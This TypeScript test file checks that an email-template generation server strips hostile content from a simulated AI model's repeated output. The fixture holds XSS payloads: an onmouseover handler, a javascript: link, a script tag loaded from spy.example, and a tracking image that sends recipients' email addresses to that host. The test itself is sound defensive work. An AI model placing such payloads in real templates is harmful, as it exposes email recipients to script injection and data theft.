import assert from 'node:assert/strict';
import { nodeOf, saleDesign } from '../../../apps/server/src/ai/generation/specimens.testing.ts';
import { ask, conversation, simple, wholeOutput } from '../conversation.ts';

const design = saleDesign();
const poisoned = wholeOutput(
  simple(design, (edited) => {
    const words = nodeOf(edited, 'wordsXXXXX').values as { text: string };
    words.text =
      '<p onmouseover="steal()">Hello {{first_name}}</p><img src="https://spy.example/p.gif?m={{email}}">';
    (nodeOf(edited, 'headingXXX').values as { text: string }).text = 'Wool sale';
    edited.body.rows[2].columns[0].contents.push({
      type: 'html',
      values: { html: '<script src="https://spy.example/x.js"></script>' },
    });
    (nodeOf(edited, 'buttonXXXX').values as { href: object }).href = {
      name: 'web',
      values: { href: 'javascript:steal()' },
    };
  }),
);

export default conversation({
  name: 'template: takes no script, no tracking image and no script link from a model, however often it writes them',
  request: ask('Friendlier words', 'template', { context: { fullDesign: design } }),
  answers: [poisoned, poisoned, poisoned],
  expect({ status, data, body }) {
    assert.equal(status, 200);
    const text = JSON.stringify(data);
    assert.doesNotMatch(text, /spy\.example|steal|<script/);
    assert.equal((nodeOf(data, 'headingXXX').values as { text: string }).text, 'Wool sale');
    assert.deepEqual(nodeOf(data, 'buttonXXXX'), nodeOf(design, 'buttonXXXX'));
    assert.ok((body.warnings ?? []).length >= 3);
  },
});
